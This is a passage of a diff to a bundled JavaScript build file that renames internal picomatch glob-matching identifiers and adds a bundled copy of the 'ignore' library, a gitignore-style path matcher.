+        isIgnored2 = picomatch3(opts.ignore, ignoreOpts, returnState);
       }
       const matcher = (input, returnObject = false) => {
-        const { isMatch, match, output } = picomatch2.test(input, regex2, options, { glob, posix });
+        const { isMatch, match, output } = picomatch3.test(input, regex2, options, { glob, posix });
         const result2 = { glob, state, regex: regex2, posix, input, output, match, isMatch };
         if (typeof opts.onResult === "function") {
           opts.onResult(result2);
@@ -2574,7 +1710,7 @@ var require_picomatch = __commonJS({
       }
       return matcher;
     };
-    picomatch2.test = (input, regex2, options, { glob, posix } = {}) => {
+    picomatch3.test = (input, regex2, options, { glob, posix } = {}) => {
       if (typeof input !== "string") {
         throw new TypeError("Expected input to be a string");
       }
@@ -2591,24 +1727,24 @@ var require_picomatch = __commonJS({
       }
       if (match === false || opts.capture === true) {
         if (opts.matchBase === true || opts.basename === true) {
-          match = picomatch2.matchBase(input, regex2, options, posix);
+          match = picomatch3.matchBase(input, regex2, options, posix);
         } else {
           match = regex2.exec(output);
         }
       }
       return { isMatch: Boolean(match), match, output };
     };
-    picomatch2.matchBase = (input, glob, options, posix = options && options.windows) => {
-      const regex2 = glob instanceof RegExp ? glob : picomatch2.makeRe(glob, options);
+    picomatch3.matchBase = (input, glob, options, posix = options && options.windows) => {
+      const regex2 = glob instanceof RegExp ? glob : picomatch3.makeRe(glob, options);
       return regex2.test(utils.basename(input, { windows: posix }));
     };
-    picomatch2.isMatch = (str, patterns, options) => picomatch2(patterns, options)(str);
-    picomatch2.parse = (pattern, options) => {
-      if (Array.isArray(pattern)) return pattern.map((p) => picomatch2.parse(p, options));
-      return parse3(pattern, { ...options, fastpaths: false });
+    picomatch3.isMatch = (str, patterns, options) => picomatch3(patterns, options)(str);
+    picomatch3.parse = (pattern, options) => {
+      if (Array.isArray(pattern)) return pattern.map((p) => picomatch3.parse(p, options));
+      return parse4(pattern, { ...options, fastpaths: false });
     };
-    picomatch2.scan = (input, options) => scan(input, options);
-    picomatch2.compileRe = (state, options, returnOutput = false, returnState = false) => {
+    picomatch3.scan = (input, options) => scan(input, options);
+    picomatch3.compileRe = (state, options, returnOutput = false, returnState = false) => {
       if (returnOutput === true) {
         return state.output;
       }
@@ -2619,26 +1755,26 @@ var require_picomatch = __commonJS({
       if (state && state.negated === true) {
         source = `^(?!${source}).*$`;
       }
-      const regex2 = picomatch2.toRegex(source, options);
+      const regex2 = picomatch3.toRegex(source, options);
       if (returnState === true) {
         regex2.state = state;
       }
       return regex2;
     };
-    picomatch2.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
+    picomatch3.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
       if (!input || typeof input !== "string") {
         throw new TypeError("Expected a non-empty string");
       }
       let parsed = { negated: false, fastpaths: true };
       if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
-        parsed.output = parse3.fastpaths(input, options);
+        parsed.output = parse4.fastpaths(input, options);
       }
       if (!parsed.output) {
-        parsed = parse3(input, options);
+        parsed = parse4(input, options);
       }
-      return picomatch2.compileRe(parsed, options, returnOutput, returnState);
+      return picomatch3.compileRe(parsed, options, returnOutput, returnState);
     };
-    picomatch2.toRegex = (source, options) => {
+    picomatch3.toRegex = (source, options) => {
       try {
         const opts = options || {};
         return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
@@ -2647,8 +1783,8 @@ var require_picomatch = __commonJS({
         return /$^/;
       }
     };
-    picomatch2.constants = constants;
-    module2.exports = picomatch2;
+    picomatch3.constants = constants;
+    module2.exports = picomatch3;
   }
 });
 
@@ -2658,14 +1794,878 @@ var require_picomatch2 = __commonJS({
     "use strict";
     var pico = require_picomatch();
     var utils = require_utils();
-    function picomatch2(glob, options, returnState = false) {
+    function picomatch3(glob, options, returnState = false) {
       if (options && (options.windows === null || options.windows === void 0)) {
         options = { ...options, windows: utils.isWindows() };
       }
       return pico(glob, options, returnState);
     }
-    Object.assign(picomatch2, pico);
-    module2.exports = picomatch2;
+    Object.assign(picomatch3, pico);
+    module2.exports = picomatch3;
+  }
+});
+
+// ../../main/node_modules/ignore/index.js
+var require_ignore = __commonJS({
+  "../../main/node_modules/ignore/index.js"(exports, module2) {
+    function makeArray(subject) {
+      return Array.isArray(subject) ? subject : [subject];
+    }
+    var UNDEFINED = void 0;
+    var EMPTY = "";
+    var SPACE = " ";
+    var ESCAPE = "\\";
+    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
+    var BOM = "\uFEFF";
+    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
+    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
+    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
+    var REGEX_SPLITALL_CRLF = /\r?\n/g;
+    var DOUBLE_SLASH = "//";
+    var SLASH_CODE = 47;
+    var DOT_CODE = 46;
+    var SLASH = "/";
+    var TMP_KEY_IGNORE = "node-ignore";
+    if (typeof Symbol !== "undefined") {
+      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
+    }
+    var KEY_IGNORE = TMP_KEY_IGNORE;
+    var define2 = (object, key, value) => {
+      Object.defineProperty(object, key, { value });
+      return value;
+    };
+    var RETURN_FALSE = () => false;
+    var POSIX_CLASSES = {
+      alnum: "0-9A-Za-z",
+      alpha: "A-Za-z",
+      blank: " \\t",
+      cntrl: "\\x00-\\x1f\\x7f",
+      digit: "0-9",
+      graph: "!-.0-~",
+      lower: "a-z",
+      print: " -.0-~",
+      punct: "!-.:-@\\[-`{-~",
+      // git's `sane-ctype.h` classifies \v and \f as control, not space,
+      //   unlike C's `isspace`
+      space: " \\t\\n\\r",
+      upper: "A-Z",
+      xdigit: "0-9A-Fa-f"
+    };
+    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
+    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
+    var NON_SLASH = "(?!\\/)";
+    var classSource = (negated, body2) => {
+      if (negated) {
+        return `[^\\/${body2}]`;
+      }
+      const source = `[${body2}]`;
+      return new RegExp(source).test("/") ? NON_SLASH + source : source;
+    };
+    var scanBracket = (pattern, start2) => {
+      const { length } = pattern;
+      let index = start2 + 1;
+      let negated = EMPTY;
+      const lead = pattern[index];
+      if (lead === "!" || lead === "^") {
+        negated = "^";
+        index++;
+      }
+      let body2 = EMPTY;
+      let prev = EMPTY;
+      for (; ; ) {
+        const char = pattern[index];
+        if (char === UNDEFINED) {
+          return null;
+        }
+        if (char === ESCAPE) {
+          const escaped = pattern[++index];
+          body2 += escapeMember(escaped);
+          prev = escaped;
+        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
+          index++;
+          let to = pattern[index];
+          if (to === ESCAPE) {
+            to = pattern[index += 1];
+          }
+          if (prev <= to) {
+            body2 += `-${escapeMember(to)}`;
+          }
+          prev = EMPTY;
+        } else if (char === "[" && pattern[index + 1] === ":") {
+          const nameStart = index + 2;
+          let end = nameStart;
+          while (end < length && pattern[end] !== "]") {
+            end++;
+          }
+          if (end === length) {
+            return null;
+          }
+          if (end > nameStart && pattern[end - 1] === ":") {
+            const name2 = pattern.slice(nameStart, end - 1);
+            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name2)) {
+              return null;
+            }
+            body2 += POSIX_CLASSES[name2];
+            prev = EMPTY;
+            index = end;
+          } else {
+            body2 += escapeMember("[");
+            prev = "[";
+            index = nameStart - 2;
+          }
+        } else {
+          body2 += escapeMember(char);
+          prev = char;
+        }
+        index++;
+        if (pattern[index] === "]") {
+          return {
+            end: index,
+            source: classSource(negated, body2)
+          };
+        }
+      }
+    };
+    var NEVER_MATCH = "[]";
+    var PLACEHOLDER = "\0";
+    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
+      `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`,
+      "g"
+    );
+    var TRAILING_WILDCARD = "\uE000";
+    var TRAILING_DOUBLESTAR = "\uE001";
+    var isReserved = (char) => char === PLACEHOLDER || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
+    var extractBrackets = (pattern) => {
+      const sources = [];
+      const hold = (source) => `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`;
+      const { length } = pattern;
+      let out2 = EMPTY;
+      let index = 0;
+      while (index < length) {
+        const char = pattern[index];
+        if (char === ESCAPE) {
+          const escaped = pattern[index + 1];
+          if (escaped === SLASH && index + 2 === length) {
+            out2 += hold(NEVER_MATCH);
+          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
+            out2 += pattern.slice(index, index + 2);
+          } else {
+            out2 += hold(
+              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
+            );
+          }
+          index += 2;
+        } else if (isReserved(char)) {
+          out2 += hold(`[${char}]`);
+          index++;
+        } else if (char === "[") {
+          const scanned = scanBracket(pattern, index);
+          if (scanned === null) {
+            out2 += hold(NEVER_MATCH);
+            index = length;
+          } else {
+            out2 += hold(scanned.source);
+            index = scanned.end + 1;
+          }
+        } else {
+          out2 += char;
+          index++;
+        }
+      }
+      return {
+        source: out2,
+        sources
+      };
+    };
+    var DIRECT = null;
+    var REGEX_INNER_SLASH = /\/(?!$)/;
+    var WILDCARD = "[^\\/]*";
+    var REPLACERS = [
+      // Replace (\ ) with ' '
+      // Only a space: an escaped tab or other whitespace is already a literal by
+      //   the time it reaches here, and a bare tab must be left as one, not turned
+      //   into a space.
+      // (\ ) -> ' '
+      // (\\ ) -> '\\ '
+      // (\\\ ) -> '\\ '
+      [
+        // A run of backslashes is taken whole, from its first one, so no match
+        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
+        //   quadratic.
+        /(\\+)( ?)/g,
+        (_, run3, space) => space ? run3.slice(0, run3.length - run3.length % 2) + SPACE : run3,
+        ESCAPE + SPACE
+      ],
+      // git's wildmatch() reads a run of two or more asterisks as one globstar
+      //   whenever the run fills a path segment: it starts the pattern or follows
+      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
+      //   already `**`; a longer one is folded into `**` here, so the steps
+      //   below only ever have to know `**`.
+      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
+      // git also takes a run beside a literal prefix (`a***/b`) or beside an
+      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
+      //   lists both, under "A run of asterisks".
+      [
+        /(^|\/)\*{3,}(?=\/|$)/g,
+        (_, start2) => `${start2}**`,
+        "*"
+      ],
+      // Escape metacharacters
+      // which is written down by users but means special for regular expressions.
+      // > There are 12 characters with special meanings:
+      // > - the backslash \,
+      // > - the caret ^,
+      // > - the dollar sign $,
+      // > - the period or dot .,
+      // > - the vertical bar or pipe symbol |,
+      // > - the question mark ?,
+      // > - the asterisk or star *,
+      // > - the plus sign +,
+      // > - the opening parenthesis (,
+      // > - the closing parenthesis ),
+      // > - and the opening square bracket [,
+      // > - the opening curly brace {,
+      // > These special characters are often called "metacharacters".
+      [
+        /[\\$.|*+(){^]/g,
+        (match) => `\\${match}`
+      ],
+      [
+        // > a question mark (?) matches a single character
+        /(?!\\)\?/g,
+        () => "[^/]",
+        "?"
+      ],
+      // leading slash
+      [
+        // > A leading slash matches the beginning of the pathname.
+        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
+        // A leading slash matches the beginning of the pathname
+        /^\//,
+        () => "^",
+        SLASH
+      ],
+      // replace special metacharacter slash after the leading slash
+      [
+        /\//g,
+        () => "\\/",
+        SLASH
+      ],
+      [
+        // > A leading "**" followed by a slash means match in all directories.
+        // > For example, "**/foo" matches file or directory "foo" anywhere,
+        // > the same as pattern "foo".
+        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
+        // >   under directory "foo".
+        // Notice that the '*'s have been replaced as '\\*'
+        /^\^*(?:\\\*\\\*\\\/)+/,
+        // '**/foo' <-> 'foo'
+        () => "(?:^|\\/)",
+        "*"
+      ],
+      // starting
+      [
+        // there will be no leading '/'
+        //   (which has been replaced by section "leading slash")
+        // If starts with '**', adding a '^' to the regular expression also works
+        DIRECT,
+        (source, pattern) => {
+          if (!source || source[0] === "^" || source[0] === "(") {
+            return source;
+          }
+          const anchor = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
+          return anchor + source;
+        }
+      ],
+      // two globstars
+      [
+        // Use lookahead assertions so that we could match more than one `'/**'`
+        /\\\/\\\*\\\*(?=\\\/|$)/g,
+        // Zero, one or several directories
+        // should not use '*', or it will be replaced by the next replacer
+        // Check if it is not the last `'/**'`
+        (_, index, str) => index + 6 < str.length ? str.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
+        "*"
+      ],
+      // normal intermediate wildcards
+      [
+        // Never replace escaped '*'
+        // ignore rule '\*' will match the path '*'
+        // 'abc.*/' -> go
+        // 'abc.*'  -> skip this rule,
+        //    coz trailing single wildcard will be handed by [trailing wildcard]
+        /(^|[^\\])(?:\\\*)+(?!$)/g,
+        // '*.js' matches '.js'
+        // '*.js' doesn't match 'abc'
+        // 1. An asterisk "*" matches anything except a slash.
+        // 2. Other consecutive asterisks are considered regular asterisks
+        //    and collapse into one non-slash wildcard run.
+        (_, p1) => p1 + WILDCARD,
+        "*"
+      ],
+      // trailing wildcard, held apart from a literal star
+      [
+        // The step above leaves a trailing `*` alone, so a single `\*` is all that
+        //   can be left at the end here, and what stands in front of it says which
+        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
+        //   nothing before it; a literal arrives as the user's own escape, which
+        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
+        //   There is no third case: every backslash still reaching the chain is
+        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
+        //   own character, so a longer run can never form. This runs while the
+        //   two are still distinct, before the unescape steps below collapse the
+        //   literal onto the very `\*` a wildcard leaves behind.
+        /(^|[^\\])((?:\\\\)*)\\\*$/,
+        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
+        "*"
+      ],
+      [
+        // unescape, revert step 3 except for back slash
+        // For example, if a user escape a '\\*',
+        // after step 3, the result will be '\\\\\\*'
+        /\\\\\\(?=[$.|*+(){^])/g,
+        () => ESCAPE,
+        ESCAPE + ESCAPE
+      ],
+      [
+        // '\\\\' -> '\\'
+        /\\\\/g,
+        () => ESCAPE,
+        ESCAPE + ESCAPE
+      ],
+      [
+        // Every real bracket expression -- POSIX classes included -- has already
+        //   been held aside by `extractBrackets`, so the only `[` left in the
+        //   pattern is an escaped, literal one.
+        // A backslash could only stand at the end of the range if it quoted the
+        //   `]`, and `\]` is held aside long before this.
+        /\\\[([^\]/]*?)($|\])/g,
+        // '\\[bar]' -> '\\\\[bar]'
+        (match, range, close) => `\\[${range}${close}`,
+        "["
+      ],
+      // ending
+      [
+        // 'js' will not match 'js.'
+        // 'ab' will not match 'abc'
+        DIRECT,
+        // WTF!
+        // https://git-scm.com/docs/gitignore
+        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
+        // which re-fixes #24, #38
+        // > If there is a separator at the end of the pattern then the pattern
+        // > will only match directories, otherwise the pattern can match both
+        // > files and directories.
+        // 'js*' will not match 'a.js'
+        // 'js/' will not match 'a.js'
+        // 'js' will match 'a.js' and 'a.js/'
+        (source) => {
+          const last = source[source.length - 1];
+          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
+            return source;
+          }
+          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
+        }
+      ]
+    ];
+    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
+    var MODE_IGNORE = "regex";
+    var MODE_CHECK_IGNORE = "checkRegex";
+    var UNDERSCORE = "_";
+    var replaceTrailingWildcard = (_, p1) => {
+      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
+      return `${prefix}(?=$|\\/$)`;
+    };
+    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
+    var replaceTrailingDoublestar = () => "[\\s\\S]";
+    var separatorAfter = (run3, at) => {
+      let separator = EMPTY;
+      for (let index = at + 1; index < run3.length && !run3[index].wildcard; index++) {
+        separator += run3[index].single;
+      }
+      return separator;
+    };
+    var pinWildcards = (source) => {
+      if (source.indexOf(WILDCARD) < 0) {
+        return source;
+      }
+      const tokens = [];
+      const { length } = source;
+      let index = 0;
+      while (index < length) {
+        const char = source[index];
+        if (source.startsWith(WILDCARD, index)) {
+          tokens.push({ wildcard: true });
+          index += WILDCARD.length;
+        } else if (char === "[") {
+          let end = index + 1;
+          if (source[end] === "^") {
+            end++;
+          }
+          if (source[end] === "]") {
+            end++;
+          }
+          while (end < length && source[end] !== "]") {
+            end += source[end] === ESCAPE ? 2 : 1;
+          }
+          end++;
+          tokens.push({ single: source.slice(index, end) });
+          index = end;
+        } else if (char === ESCAPE) {
+          tokens.push({ single: source.slice(index, index + 2) });
+          index += 2;
+        } else if (char === "(") {
+          let depth = 0;
+          let end = index;
+          do {
+            if (source[end] === ESCAPE) {
+              end++;
+            } else if (source[end] === "(") {
+              depth++;
+            } else if (source[end] === ")") {
+              depth--;
+            }
+            end++;
+          } while (end < length && depth > 0);
+          if ("*+?".indexOf(source[end]) >= 0) {
+            end++;
+          }
+          tokens.push({ boundary: source.slice(index, end) });
+          index = end;
+        } else if (char === "^" || char === "$") {
+          tokens.push({ boundary: char });
+          index++;
+        } else {
+          tokens.push({ single: char });
+          index++;
+        }
+      }
+      let out2 = EMPTY;
+      let run3 = [];
+      const flush = () => {
+        let lastWildcard;
+        run3.forEach((token, at) => {
+          if (token.wildcard) {
+            lastWildcard = at;
+          }
+        });
+        run3.forEach((token, at) => {
+          if (!token.wildcard) {
+            out2 += token.single;
+            return;
+          }
+          out2 += at === lastWildcard ? WILDCARD : `(?:(?!${separatorAfter(run3, at)})[^\\/])*`;
+        });
+        run3 = [];
+      };
+      tokens.forEach((token) => {
+        if (token.boundary === void 0) {
+          run3.push(token);
+          return;
+        }
+        flush();
+        out2 += token.boundary;
+      });
+      flush();
+      return out2;
+    };
+    var makeRegexPrefix = (pattern) => {
+      if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
+        pattern = "**";
+      }
+      const { source, sources } = extractBrackets(pattern);
+      const replaced = REPLACERS.reduce(
+        // A pass whose matcher finds nothing hands back the very string it was
+        //   given, so asking first costs a search and saves a rewrite. Ten of the
+        //   fifteen passes never fire for a typical .gitignore line, and between
+        //   them they were 45% of this chain.
+        (prev, [matcher, replacer, required]) => {
+          if (matcher === DIRECT) {
+            return replacer(prev, pattern);
+          }
+          if (required !== UNDEFINED && prev.indexOf(required) < 0) {
+            return prev;
+          }
+          return matcher.test(prev) ? prev.replace(matcher, replacer.bind(pattern)) : prev;
+        },
+        source
+      );
+      return sources.length ? replaced.replace(
+        REGEX_RESTORE_PLACEHOLDER,
+        (match, index) => sources[index]
+      ) : replaced;
+    };
+    var checkSourceOf = (body2, prefix) => {
+      if (body2[body2.length - 1] === SLASH) {
+        prefix = makeRegexPrefix(body2.slice(0, -1));
+      }
+      const head = prefix.slice(0, -1);
+      const last = prefix[prefix.length - 1];
+      return last === TRAILING_WILDCARD ? `${head}$` : last === TRAILING_DOUBLESTAR ? head : NEVER_MATCH;
+    };
+    var matchesBasename = (body2) => {
+      const index = body2.indexOf(SLASH);
+      return index < 0 || index === body2.length - 1;
+    };
+    var basenameOf = (path) => {
+      const end = path.length - 1;
+      const index = path.lastIndexOf(
+        SLASH,
+        path[end] === SLASH ? end - 1 : end
+      );
+      return index < 0 ? path : path.slice(index + 1);
+    };
+    var parentOf = (path) => {
+      if (path.charCodeAt(0) === SLASH_CODE || path.indexOf(DOUBLE_SLASH) >= 0) {
+        const slices = path.split(SLASH).filter(Boolean);
+        slices.pop();
+        return slices.length ? slices.join(SLASH) + SLASH : EMPTY;
+      }
+      const end = path.length - 1;
+      const cut = path.lastIndexOf(
+        SLASH,
+        path.charCodeAt(end) === SLASH_CODE ? end - 1 : end
+      );
+      return cut < 0 ? EMPTY : path.slice(0, cut + 1);
+    };
+    var isString = (subject) => typeof subject === "string";
+    var checkPattern = (pattern) => pattern && isString(pattern);
+    var splitPattern = (pattern) => (pattern[pattern.length - 1] === "\r" ? pattern.slice(0, -1) : pattern).split(REGEX_SPLITALL_CRLF).filter(Boolean);
+    var IgnoreRule = class {
+      constructor(pattern, mark, body2, ignoreCase, negative, prefix) {
+        this.pattern = pattern;
+        this.mark = mark;
+        this.negative = negative;
+        define2(this, "body", body2);
+        define2(this, "ignoreCase", ignoreCase);
+        define2(this, "regexPrefix", prefix);
+      }
+      // Worked out on first use and kept behind an own property, the way `regex`
+      //   caches itself in `_regex`. Deciding it in the constructor instead would
+      //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
+      //   every compile -- including the compiles of rules that are never matched
+      //   against anything.
+      get _basenameOnly() {
+        return define2(this, "_basenameOnly", matchesBasename(this.body));
+      }
+      get regex() {
+        const key = UNDERSCORE + MODE_IGNORE;
+        if (this[key]) {
+          return this[key];
+        }
+        return this._make(MODE_IGNORE, key);
+      }
+      get checkRegex() {
+        const key = UNDERSCORE + MODE_CHECK_IGNORE;
+        if (this[key]) {
+          return this[key];
+        }
+        return this._make(MODE_CHECK_IGNORE, key);
+      }
+      _make(mode, key) {
+        const str = pinWildcards(
+          mode === MODE_IGNORE ? this.regexPrefix.replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard).replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar) : checkSourceOf(this.body, this.regexPrefix)
+        );
+        const regex2 = this.ignoreCase ? new RegExp(str, "i") : new RegExp(str);
+        return define2(this, key, regex2);
+      }
+    };
+    var hasTrailingBackslash = (str) => {
+      let count = 0;
+      while (str[str.length - count - 1] === ESCAPE) {
+        count++;
+      }
+      return count % 2 === 1;
+    };
+    var trimEnd = (body2, stripLineEnd) => {
+      let lineEnd = body2.length;
+      let end;
+      for (; ; ) {
+        if (stripLineEnd && body2[lineEnd - 1] === "\r") {
+          lineEnd--;
+        }
+        end = lineEnd;
+        while (body2[end - 1] === SPACE) {
+          end--;
+        }
+        if (!stripLineEnd || body2[end - 1] !== "\n") {
+          break;
+        }
+        lineEnd = end - 1;
+      }
+      if (end === lineEnd) {
+        return body2.slice(0, lineEnd);
+      }
+      let backslashes = 0;
+      while (body2[end - backslashes - 1] === ESCAPE) {
+        backslashes++;
+      }
+      return backslashes % 2 ? body2.slice(0, end - 1) + SPACE : body2.slice(0, end);
+    };
+    var createRule = (pattern, mark, ignoreCase, stripLineEnd, stripBOM) => {
+      let body2 = stripBOM && pattern[0] === BOM ? pattern.slice(1) : pattern;
+      if (body2[0] === "#") {
+        return;
+      }
+      let negative = false;
+      if (body2[0] === "!") {
+        negative = true;
+        body2 = body2.slice(1);
+      }
+      const last = body2[body2.length - 1];
+      if (last === SPACE || stripLineEnd && (last === "\r" || last === "\n")) {
+        body2 = trimEnd(body2, stripLineEnd);
+      }
+      if (!body2 || hasTrailingBackslash(body2)) {
+        return;
+      }
+      body2 = body2.replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, "!").replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, "#");
+      const regexPrefix = makeRegexPrefix(body2);
+      return new IgnoreRule(
+        pattern,
+        mark,
+        body2,
+        ignoreCase,
+        negative,
+        regexPrefix
+      );
+    };
+    var RuleManager = class {
+      constructor(ignoreCase) {
+        this._ignoreCase = ignoreCase;
+        this._rules = [];
+        this._basenameCount = 0;
+      }
+      _add(pattern, index) {
+        if (pattern && pattern[KEY_IGNORE]) {
+          this._rules = this._rules.concat(pattern._rules._rules);
+          this._basenameCount += pattern._rules._basenameCount;
+          this._added = true;
+          return;
+        }
+        const isStr = isString(pattern);
+        const raw = isStr ? pattern : pattern.pattern;
+        const rule = checkPattern(raw) && createRule(
+          raw,
+          isStr ? UNDEFINED : pattern.mark,
+          this._ignoreCase,
+          !this._split,
+          this._stripBOM && !index
+        );
+        if (rule) {
+          this._added = true;
+          this._rules.push(rule);
+          if (matchesBasename(rule.body)) {
+            this._basenameCount++;
+          }
+        }
+      }
+      // @param {Array<string> | string | Ignore} pattern
+      add(pattern) {
+        this._added = false;
+        this._split = isString(pattern);
+        this._stripBOM = !this._split || pattern[0] === BOM;
+        makeArray(
+          this._split ? splitPattern(pattern) : pattern
+        ).forEach(this._add, this);
+        if (this._added) {
+          this._literalRules = UNDEFINED;
+        }
+        return this._added;
+      }
+      // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
+      //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
+      //   are left out once, rather than tested or compiled for every path.
+      testLiteral(path) {
+        const rules = this._literalRules || (this._literalRules = this._rules.filter(
+          ({ body: body2 }) => body2[body2.length - (body2[body2.length - 1] === SLASH ? 2 : 1)] === "*"
+        ));
+        let ignored = false;
+        let unignored = false;
+        let matchedRule;
+        for (let index = rules.length - 1; index >= 0; index--) {
+          const rule = rules[index];
+          if (rule.checkRegex.test(path)) {
+            ignored = !rule.negative;
+            unignored = rule.negative;
+            matchedRule = rule.negative ? UNDEFINED : rule;
+            break;
+          }
+        }
+        const ret = {
+          ignored,
+          unignored
+        };
+        if (matchedRule) {
+          ret.rule = matchedRule;
+        }
+        return ret;
+      }
+      // Test one single path without recursively checking parent directories
+      //
+      // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
+      // @returns {TestResult}
+      test(path, mode) {
+        const rules = this._rules;
+        const { length } = rules;
+        const shortcut = this._basenameCount * 2 >= length;
+        const basename4 = shortcut ? basenameOf(path) : path;
+        for (let index = length - 1; index >= 0; index--) {
+          const rule = rules[index];
+          if (rule[mode].test(
+            shortcut && rule._basenameOnly ? basename4 : path
+          )) {
+            const { negative } = rule;
+            const ret = {
+              ignored: !negative,
+              unignored: negative
+            };
+            if (!negative) {
+              ret.rule = rule;
+            }
+            return ret;
+          }
+        }
+        return {
+          ignored: false,
+          unignored: false
+        };
+      }
+    };
+    var throwError = (message15, Ctor) => {
+      throw new Ctor(message15);
+    };
+    var checkPath = (path, originalPath, doThrow) => {
+      if (!isString(path)) {
+        return doThrow(
+          `path must be a string, but got \`${originalPath}\``,
+          TypeError
+        );
+      }
+      if (!path) {
+        return doThrow(`path must not be empty`, TypeError);
+      }
+      if (checkPath.isNotRelative(path)) {
+        const r = "`path.relative()`d";
+        return doThrow(
+          `path should be a ${r} string, but got "${originalPath}"`,
+          RangeError
+        );
+      }
+      return true;
+    };
+    var isNotRelative = (path) => {
+      const first = path.charCodeAt(0);
+      if (first === SLASH_CODE) {
+        return true;
+      }
+      if (first !== DOT_CODE) {
+        return false;
+      }
+      if (path.length === 1) {
+        return true;
+      }
+      const second = path.charCodeAt(1);
+      if (second === SLASH_CODE) {
+        return true;
+      }
+      if (second !== DOT_CODE) {
+        return false;
+      }
+      return path.length === 2 || path.charCodeAt(2) === SLASH_CODE;
+    };
+    checkPath.isNotRelative = isNotRelative;
+    checkPath.convert = (p) => p;
+    var convertPath = (target) => isString(target) && checkPath.convert(target);
+    var Ignore = class {
+      constructor({
+        ignorecase = true,
+        ignoreCase = ignorecase,
+        allowRelativePaths = false
+      } = {}) {
+        define2(this, KEY_IGNORE, true);
+        this._rules = new RuleManager(ignoreCase);
+        this._strictPathCheck = !allowRelativePaths;
+        this._initCache();
+      }
+      _initCache() {
+        this._ignoreCache = /* @__PURE__ */ Object.create(null);
+        this._testCache = /* @__PURE__ */ Object.create(null);
+      }
+      add(pattern) {
+        if (this._rules.add(pattern)) {
+          this._initCache();
+        }
+        return this;
+      }
+      // legacy
+      addPattern(pattern) {
+        return this.add(pattern);
+      }
+      // @returns {TestResult}
+      _test(originalPath, cache, path) {
+        checkPath(
+          path,
+          originalPath,
+          this._strictPathCheck ? throwError : RETURN_FALSE
+        );
+        return path ? this._t(path, cache) : {
+          ignored: false,
+          unignored: false
+        };
+      }
+      checkIgnore(target) {
+        const path = convertPath(target);
+        if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
+          return this._test(target, this._testCache, path);
+        }
+        const dir = this._t(path, this._testCache);
+        if (dir.ignored) {
+          return dir;
+        }
+        const literal = this._rules.testLiteral(path);
+        return literal.ignored || literal.unignored ? literal : dir;
+      }
+      _t(path, cache) {
+        if (path in cache) {
+          return cache[path];
+        }
+        const parentPath = parentOf(path);
+        const parent = parentPath ? this._t(parentPath, cache) : UNDEFINED;
+        return cache[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
+      }
+      ignores(path) {
+        return this._test(path, this._ignoreCache, convertPath(path)).ignored;
+      }
+      createFilter() {
+        return (path) => !this.ignores(path);
+      }
+      filter(paths) {
+        return makeArray(paths).filter(this.createFilter());
+      }
+      // @returns {TestResult}
+      test(path) {
+        return this._test(path, this._testCache, convertPath(path));
+      }
+    };
+    var factory = (options) => new Ignore(options);
+    var isPathValid = (path) => checkPath(convertPath(path), path, RETURN_FALSE);
+    var setupWindows = () => {
+      const makePosix = (str) => /^\\\\\?\\/.test(str) || /["<>|\u0000-\u001F]+/u.test(str) ? str : str.replace(/\\/g, "/");
+      checkPath.convert = makePosix;
+      const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i;
+      checkPath.isNotRelative = (path) => REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path) || isNotRelative(path);
+    };
+    if (
+      // Detect `process` so that it can run in browsers.
+      typeof process !== "undefined" && process.platform === "win32"
+    ) {
+      setupWindows();
+    }
+    module2.exports = factory;
